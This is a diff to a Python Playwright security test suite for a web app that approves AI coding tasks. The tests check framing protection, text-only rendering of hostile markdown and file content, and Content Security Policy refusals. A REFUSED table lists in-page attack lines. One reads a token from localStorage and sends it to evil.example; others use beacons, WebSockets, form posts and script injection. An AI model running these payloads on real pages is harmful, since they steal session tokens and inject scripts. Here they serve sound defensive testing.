@@ -8,19 +8,19 @@ from __future__ import annotations
 
 import asyncio
 import shlex
-from collections.abc import AsyncIterator, Iterator, Mapping
+from collections.abc import AsyncIterator, Collection, Iterator, Mapping, Sequence
 from contextlib import AsyncExitStack, asynccontextmanager
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from typing import Final
 
 import pytest
 import pytest_asyncio
 from aiohttp import web
 from aiohttp.test_utils import TestServer
-from playwright.async_api import Browser, ConsoleMessage, Page, Response, expect
+from playwright.async_api import Browser, ConsoleMessage, Dialog, Page, Request, Response, expect
 
 from tests import model_script as script
-from tests.browsing import new_page
+from tests.browsing import VIOLATION, kept_page, new_page, no_problems
 from tests.e2e.place import Place, wait_until
 from tests.e2e.proposing import Shop, configure, http, repository
 from tests.model_server import started
@@ -149,7 +149,7 @@ def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
     }
     steps = [
         *(
-            script.only(script.text(one), when=name, always=True, asked=True)
+            script.only(script.text(one, pieces=9), when=name, always=True, asked=True)
             for name, one in BOMBS.items()
         ),
         script.only(
@@ -328,7 +328,7 @@ READING: Final[Mapping[str, str]] = {
     'heard.onerror = () => { heard.close(); done("refused"); }; })',
     "socket": 'hears("/api/live")',
     "socket-other-path": 'hears("/api/status")',
-    "socket-many": 'Promise.all(Array.from({length: 100}, () => hears("/api/live")))'
+    "socket-many": 'Promise.all(Array.from({length: 20}, () => hears("/api/live")))'
     ".then((all) => [...new Set(all)].join())",
     "script": 'loads("script", {src: `${at}/app.js`})',
     "script-module": 'loads("script", {type: "module", src: `${at}/kit/kit.js`})',
@@ -436,6 +436,7 @@ def _assert_nothing_changed(desk: Desk) -> None:
     assert not desk.shop.task("evil")
 
 
+FRAMED: Final = ("/", "/launch", "/api/status")
 FRAMES: Final[Mapping[str, str]] = {
     "iframe": '<iframe src="{at}{path}"></iframe>',
     "iframe-sandboxed": '<iframe sandbox="allow-scripts" src="{at}{path}"></iframe>',
@@ -446,21 +447,42 @@ FRAMES: Final[Mapping[str, str]] = {
 }
 
 
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def framed(
+    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page]
+) -> Mapping[tuple[str, str], Sequence[str]]:
+    """What is shown in frames, by host and kind: all of a host's are in one page."""
+    found: dict[tuple[str, str], list[str]] = {}
+    for host in HOSTS:
+        async with beside(ours, others[host], evil.at(host)) as other:
+            made = ""
+            for name, markup in FRAMES.items():
+                parts = (markup.format(at=desk.visit.origin, path=path) for path in FRAMED)
+                made += f"<div id={name}>{''.join(parts)}</div>"
+            await other.evaluate("made => { document.body.innerHTML = made; }", made)
+            await other.wait_for_load_state("networkidle")
+            for frame in other.frames[1:]:
+                top = frame
+                while top.parent_frame not in (None, other.main_frame):
+                    top = top.parent_frame
+                holder = await top.frame_element()
+                name = await holder.evaluate("one => one.closest('div').id")
+                text = await frame.evaluate("document.documentElement.innerText")
+                found.setdefault((host, name), []).append(text)
+    return found
+
+
 @pytest.mark.requirement("R56")
 @pytest.mark.parametrize("host", HOSTS)
-@pytest.mark.parametrize("markup", FRAMES.values(), ids=FRAMES)
+@pytest.mark.parametrize("kind", FRAMES)
 async def test_the_page_is_shown_in_no_frame(
-    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page], markup: str, host: str
+    framed: Mapping[tuple[str, str], Sequence[str]], kind: str, host: str
 ) -> None:
-    paths = ("/", "/launch", "/api/status")
-    async with beside(ours, others[host], evil.at(host)) as other:
-        made = "".join(markup.format(at=desk.visit.origin, path=path) for path in paths)
-        await other.evaluate("made => { document.body.innerHTML = made; }", made)
-        await other.wait_for_timeout(250)
-        for frame in other.frames[1:]:
-            text = await frame.evaluate("document.documentElement.innerText")
-            assert "CodexBridge" not in text
-            assert "dev-1" not in text
+    texts = framed.get((host, kind), ())
+    assert len(texts) >= len(FRAMED) or kind == "object"  # which is no frame once it is refused
+    for text in texts:
+        assert "CodexBridge" not in text
+        assert "dev-1" not in text
 
 
 @pytest.mark.requirement("R56")
@@ -481,7 +503,7 @@ async def test_a_page_cannot_lead_the_person_to_ours(
 async def test_what_another_port_of_the_host_is_sent_is_half_a_session(
     desk: Desk, evil: Evil, browser: Browser
 ) -> None:
-    async with new_page(browser, allowed=ANYTHING) as page:
+    async with kept_page(browser, allowed=ANYTHING) as page:
         await enter(page, desk.place)
         evil.seen.clear()
         other = await page.context.new_page()
@@ -516,29 +538,38 @@ const add = (tag, attributes) =>
 """
 
 
+# Each with what the policy says of it.
+REFUSED: Final[Mapping[str, str]] = {
+    "document.body.innerHTML = '<b>x</b>'": "trusted-types-sink Element innerHTML",
+    "eval('window.xss = 1')": "trusted-types-sink eval",
+    "new Function('window.xss = 1')()": "trusted-types-sink Function",
+    "setTimeout('window.xss = 1')": "trusted-types-sink Window setTimeout",
+    "document.write('x')": "trusted-types-sink Document write",
+    "add('script', {text: 'window.xss = 1'})": "trusted-types-sink HTMLScriptElement text",
+    "add('script', {src: 'http://evil.example/x.js'})": "trusted-types-sink HTMLScriptElement src",
+    "fetch('http://evil.example/' + localStorage.getItem('token'), {mode: 'no-cors'})": (
+        "connect-src http://evil.example/"
+    ),
+    "new WebSocket('ws://evil.example/')": "connect-src ws://evil.example/",
+    "navigator.sendBeacon('http://evil.example/beacon', 'x')": (
+        "connect-src http://evil.example/beacon"
+    ),
+    "new Image().src = 'http://evil.example/x.png'": "img-src http://evil.example/x.png",
+    "add('iframe', {src: '/'})": "frame-src http://localhost",
+    "add('form', {action: 'http://evil.example/', method: 'post'}).submit()": (
+        "form-action http://evil.example/"
+    ),
+    "add('base', {href: 'http://evil.example/'})": "base-uri http://evil.example/",
+    "new Worker(URL.createObjectURL(new Blob(['1'])))": "trusted-types-sink Worker constructor",
+    "navigator.serviceWorker.register('/app.js')": (
+        "trusted-types-sink ServiceWorkerContainer register"
+    ),
+    "trustedTypes.createPolicy('mine', {createHTML: (x) => x})": "trusted-types-policy mine",
+}
+
+
 @pytest.mark.requirement("R56")
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "document.body.innerHTML = '<b>x</b>'",
-        "eval('window.xss = 1')",
-        "new Function('window.xss = 1')()",
-        "setTimeout('window.xss = 1')",
-        "document.write('x')",
-        "add('script', {text: 'window.xss = 1'})",
-        "add('script', {src: 'http://evil.example/x.js'})",
-        "fetch('http://evil.example/' + localStorage.getItem('token'), {mode: 'no-cors'})",
-        "new WebSocket('ws://evil.example/')",
-        "navigator.sendBeacon('http://evil.example/', 'x')",
-        "new Image().src = 'http://evil.example/x.png'",
-        "add('iframe', {src: '/'})",
-        "add('form', {action: 'http://evil.example/', method: 'post'}).submit()",
-        "add('base', {href: 'http://evil.example/'})",
-        "new Worker(URL.createObjectURL(new Blob(['1'])))",
-        "navigator.serviceWorker.register('/app.js')",
-        "trustedTypes.createPolicy('mine', {createHTML: (x) => x})",
-    ],
-)
+@pytest.mark.parametrize("attack", REFUSED)
 async def test_what_a_script_in_our_page_would_do_the_policy_refuses(
     desk: Desk, ours: Page, attack: str
 ) -> None:
@@ -549,11 +580,9 @@ async def test_what_a_script_in_our_page_would_do_the_policy_refuses(
         away.append(answer.url)
 
     def hear_words(said: ConsoleMessage) -> None:
-        if "securitypolicyviolation" in said.text or "Trusted" in said.text:
+        if said.text.startswith(VIOLATION) and REFUSED[attack] in said.text:
             refused.put_nowait(said.text)
 
-    await ours.goto(f"{desk.visit.origin}/")
-    await expect(ours.locator("header.top")).to_be_visible(timeout=SECONDS)
     # Only what gets beyond the policy has a request that the browser begins.
     ours.on("response", hear_answer)
     ours.on("console", hear_words)
@@ -593,8 +622,10 @@ async ({task, approval, digest}) => {
       if (answer.ok) found.push(`${method} ${path.replace(task, "TASK")}`);
     } catch { }
   };
-  for (const method of ["GET", "POST", "PUT", "DELETE", "PATCH"]) {
-    for (const op of ops) {
+  // The guard refuses the other methods before it looks at a path.
+  const others = ["PUT", "DELETE", "PATCH"];
+  for (const method of ["GET", "POST", ...others]) {
+    for (const op of others.includes(method) ? ["approve"] : ops) {
       const paths = [`/api/tasks/${task}/${op}`, `/api/jobs/${task}/${op}`, `/api/${op}`,
         `/api/approvals/${approval}/${op}`, `/api/control/${op}`];
       await Promise.all(paths.map((path) => ask(method, path)));
@@ -612,7 +643,7 @@ async def test_no_script_in_our_own_page_can_approve(desk: Desk, browser: Browse
     short_id = await asyncio.to_thread(
         desk.shop.ask, "@dev fix the bug in out.txt, hostile edits by script"
     )
-    async with new_page(browser, allowed=("Failed to load resource",)) as page:
+    async with kept_page(browser, allowed=("Failed to load resource",)) as page:
         await enter(page, desk.place, f"/tasks/{short_id}")
         shown = await asyncio.to_thread(desk.visit.get(f"/api/tasks/{short_id}").send)
         told = shown.json()
@@ -640,7 +671,7 @@ async def test_clicking_all_that_can_be_clicked_approves_nothing(
     short_id = await asyncio.to_thread(
         desk.shop.ask, "@dev fix the bug in out.txt, hostile edits by clicks"
     )
-    async with new_page(browser, allowed=("Failed to load resource",)) as page:
+    async with kept_page(browser, allowed=("Failed to load resource",)) as page:
         for path in (f"/tasks/{short_id}", "/approvals"):
             await enter(page, desk.place, path)
             await expect(page.get_by_text(short_id).first).to_be_visible(timeout=SECONDS)
@@ -684,23 +715,26 @@ def _assert_untouched(desk: Desk, short_id: str) -> None:
 # -- hostile words --------------------------------------------------------------------------------
 
 
-@dataclass(slots=True)
+@dataclass  # without slots: Playwright writes to whose method listens
 class Watch:
     """What a page does that hostile words may not bring about."""
 
     page: Page
     origin: str
-    requests: list[str]
-    dialogs: list[str]
+    requests: list[str] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
 
-    @classmethod
-    def over(cls, page: Page, origin: str) -> Watch:
-        """Begin to watch."""
-        made = cls(page, origin, [], [])
-        page.context.on("request", lambda one: made.requests.append(one.url))
-        page.on("dialog", lambda one: made.dialogs.append(one.message))
-        page.on("popup", lambda one: made.dialogs.append(one.url))
-        return made
+    def hear_request(self, request: Request) -> None:
+        """Note what is asked of anybody."""
+        self.requests.append(request.url)
+
+    def hear_dialog(self, dialog: Dialog) -> None:
+        """Note it, and leave it open: the test would wait for it."""
+        self.dialogs.append(dialog.message)
+
+    def hear_popup(self, popup: Page) -> None:
+        """Note another tab."""
+        self.dialogs.append(popup.url)
 
     async def assert_nothing_happened(self) -> None:
         """Nothing ran, nothing was asked of anybody else, nothing of it became an element."""
@@ -713,6 +747,52 @@ class Watch:
         assert self.page.url.startswith(self.origin)
         found = await self.page.evaluate(ELEMENTS)
         assert found == []
+
+
+@asynccontextmanager
+async def watched(
+    browser: Browser, desk: Desk, *, allowed: Collection[str] = ()
+) -> AsyncIterator[tuple[Page, Watch]]:
+    """Give an empty page that is watched."""
+    async with kept_page(browser, allowed=allowed) as page, watching(page, desk) as watch:
+        yield page, watch
+
+
+@asynccontextmanager
+async def watching(page: Page, desk: Desk) -> AsyncIterator[Watch]:
+    """Watch a page for a while."""
+    watch = Watch(page, desk.visit.origin)
+    page.context.on("request", watch.hear_request)
+    page.on("dialog", watch.hear_dialog)
+    page.on("popup", watch.hear_popup)
+    try:
+        yield watch
+    finally:
+        page.context.remove_listener("request", watch.hear_request)
+        page.remove_listener("dialog", watch.hear_dialog)
+        page.remove_listener("popup", watch.hear_popup)
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def open_page(desk: Desk, browser: Browser) -> AsyncIterator[Page]:
+    """Our page, on which one hostile thing is shown after the other."""
+    async with kept_page(browser, allowed=ANYTHING) as page:
+        await enter(page, desk.place)
+        yield page
+
+
+@asynccontextmanager
+async def shown(
+    page: Page, desk: Desk, path: str, *, allowed: Collection[str] = ()
+) -> AsyncIterator[Watch]:
+    """Show a path of it, watched; what failed there is not met by those after it."""
+    async with no_problems(page.context, allowed), watching(page, desk) as watch:
+        try:
+            await page.evaluate("path => { location.hash = path; }", path)
+            yield watch
+        except BaseException:
+            await enter(page, desk.place)
+            raise
 
 
 ELEMENTS: Final = """
@@ -746,8 +826,7 @@ async def _shows(page: Page, *texts: str) -> None:
 @pytest.mark.requirement("R57")
 async def test_markdown_of_a_model_is_shown_as_text(desk: Desk, browser: Browser) -> None:
     task = await asyncio.to_thread(desk.shop.answered, f"@dev explain {IMG} {SCRIPT}")
-    async with new_page(browser) as page:
-        watch = Watch.over(page, desk.visit.origin)
+    async with watched(browser, desk) as (page, watch):
         await enter(page, desk.place, f"/tasks/{task['short_id']}")
         await _shows(page, f"explain {IMG} {SCRIPT}", "deep", "fence", "http://evil.example/auto")
         await expect(page.locator(".markdown")).to_contain_text(f"heading {IMG}")
@@ -768,8 +847,7 @@ async def test_a_hostile_change_is_shown_as_text(desk: Desk, browser: Browser) -
     short_id = await asyncio.to_thread(
         desk.shop.ask, f"@dev fix the bug in out.txt, hostile edits {SVG}"
     )
-    async with new_page(browser) as page:
-        watch = Watch.over(page, desk.visit.origin)
+    async with watched(browser, desk) as (page, watch):
         await enter(page, desk.place, f"/tasks/{short_id}")
         await _shows(page, FILE, NEW_FILE, SCRIPT, f"</code></pre>{SVG}", f"hostile edits {SVG}")
         await watch.assert_nothing_happened()
@@ -786,8 +864,7 @@ async def test_a_hostile_change_is_shown_as_text(desk: Desk, browser: Browser) -
 
 @pytest.mark.requirement("R57")
 async def test_hostile_files_are_shown_as_text(desk: Desk, browser: Browser) -> None:
-    async with new_page(browser, allowed=("Failed to load resource",)) as page:
-        watch = Watch.over(page, desk.visit.origin)
+    async with watched(browser, desk, allowed=("Failed to load resource",)) as (page, watch):
         await enter(page, desk.place, "/files")
         await _shows(page, FILE, IMG)
         await watch.assert_nothing_happened()
@@ -823,8 +900,7 @@ async def test_output_of_a_command_is_shown_as_text(desk: Desk, browser: Browser
     short_id = await asyncio.to_thread(desk.shop.ask, "@dev test")
     await asyncio.to_thread(desk.place.approve, short_id)
     await asyncio.to_thread(desk.place.final, short_id)
-    async with new_page(browser) as page:
-        watch = Watch.over(page, desk.visit.origin)
+    async with watched(browser, desk) as (page, watch):
         await enter(page, desk.place, f"/tasks/{short_id}")
         await expect(page.locator("pre.output")).to_contain_text(SCRIPT, timeout=SECONDS)
         await expect(page.locator("pre.output")).to_contain_text(IMG)
@@ -833,8 +909,7 @@ async def test_output_of_a_command_is_shown_as_text(desk: Desk, browser: Browser
 
 @pytest.mark.requirement("R57")
 async def test_hostile_playbooks_are_shown_as_text(desk: Desk, browser: Browser) -> None:
-    async with new_page(browser) as page:
-        watch = Watch.over(page, desk.visit.origin)
+    async with watched(browser, desk) as (page, watch):
         await enter(page, desk.place, "/playbooks")
         await _shows(page, SCRIPT, IMG)
         await watch.assert_nothing_happened()
@@ -854,23 +929,21 @@ async def test_hostile_playbooks_are_shown_as_text(desk: Desk, browser: Browser)
     "section", ["tasks", "insights", "audit", "settings", IMG, "%", "%E0%A4%A", *INHERITED]
 )
 async def test_no_section_takes_hostile_words_for_markup(
-    desk: Desk, browser: Browser, section: str
+    desk: Desk, open_page: Page, section: str
 ) -> None:
-    async with new_page(browser, allowed=("Failed to load resource",)) as page:
-        watch = Watch.over(page, desk.visit.origin)
-        await enter(page, desk.place, f"/{section}/{IMG}?{SCRIPT}={IMG}&line={SCRIPT}")
-        await page.wait_for_timeout(500)
+    path = f"/{section}/{IMG}?{SCRIPT}={IMG}&line={SCRIPT}"
+    async with shown(open_page, desk, path, allowed=("Failed to load resource",)) as watch:
+        await open_page.wait_for_timeout(500)
         await watch.assert_nothing_happened()
-        await expect(page.locator("main")).to_be_visible()
+        await expect(open_page.locator("main")).to_be_visible()
 
 
 @pytest.mark.requirement("R57")
 async def test_what_is_told_live_and_searched_for_is_shown_as_text(
-    desk: Desk, browser: Browser
+    desk: Desk, open_page: Page
 ) -> None:
-    async with new_page(browser) as page:
-        watch = Watch.over(page, desk.visit.origin)
-        await enter(page, desk.place, "/tasks")
+    page = open_page
+    async with shown(page, desk, "/tasks") as watch:
         said = f"@dev explain live {IMG}"
         await asyncio.to_thread(desk.shop.say, said)
         await _shows(page, f"explain live {IMG}")
@@ -886,12 +959,12 @@ async def test_what_is_told_live_and_searched_for_is_shown_as_text(
 @pytest.mark.requirement("R57")
 @pytest.mark.parametrize("bomb", BOMBS)
 async def test_markdown_that_cannot_be_read_is_shown_all_the_same(
-    desk: Desk, browser: Browser, bomb: str
+    desk: Desk, open_page: Page, bomb: str
 ) -> None:
+    page = open_page
     task = await asyncio.to_thread(desk.shop.answered, f"@dev explain the {bomb}")
-    async with new_page(browser) as page:
-        watch = Watch.over(page, desk.visit.origin)
-        await enter(page, desk.place, f"/tasks/{task['short_id']}")
+    async with shown(page, desk, f"/tasks/{task['short_id']}") as watch:
+        await expect(page.locator(".task-head h1")).to_have_text(task["short_id"], timeout=SECONDS)
         await expect(page.locator(".markdown")).to_contain_text("the end", timeout=SECONDS)
         await watch.assert_nothing_happened()
         await page.evaluate("path => { location.hash = path; }", "/approvals")
